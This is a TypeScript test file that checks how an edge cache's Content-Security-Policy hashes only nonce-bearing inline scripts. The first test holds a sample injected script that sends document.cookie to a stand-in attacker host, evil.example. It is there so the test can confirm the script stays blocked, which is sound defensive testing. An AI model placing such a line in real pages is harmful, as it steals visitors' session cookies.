/**
 * Inline scripts in a page the edge cache keeps (docs/decisions/022-edge-cache.md). A cached body cannot carry a
 * per-request nonce, so the Worker lists the SHA-256 of its inline scripts in the policy instead. It listed every
 * inline script present when the page was stored, so an HTML injection on a cacheable page (none today) would have
 * been allowed to run for every visitor served that copy. Only the scripts that carry this render's nonce, the
 * app's own, are hashed: an injected one stays blocked in every copy.
 */
import { describe, expect, it } from "vitest";
import { withScriptHashes } from "~/server/document/script-hashes.server";
import { fetchApp } from "../helpers";

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}'`;
}

describe("hashes of a cached page's inline scripts", () => {
  it("cover the scripts with this render's nonce, never an injected script or one with another nonce", async () => {
    const ours = "window.__app = 1;";
    const injected = "fetch('https://evil.example/' + document.cookie);";
    const stale = "window.__old = 1;";
    const html = `<p>hi</p><script nonce="N0NCE">${ours}</script><script>${injected}</script><script nonce="other">${stale}</script>`;
    const { html: stored, scriptSources } = await withScriptHashes(html, "N0NCE");
    expect(scriptSources).toEqual([await sha256(ours)]);
    expect(stored).toContain(`<script>${ours}</script>`);
    expect(stored).not.toContain('nonce="N0NCE"');
  });

  it("a cached page's own scripts are all allowed: every inline script in it has its hash in the policy", async () => {
    const path = `/sample-card?scripts=${crypto.randomUUID()}`;
    await (await fetchApp(path)).text();
    const cached = await fetchApp(path);
    const html = await cached.text();
    const policy = cached.headers.get("Content-Security-Policy") ?? "";
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter(
      ([, attributes]) => !/\bsrc=/.test(attributes ?? ""),
    );
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, , content = ""] of scripts) expect(policy).toContain(await sha256(content));
  });
});
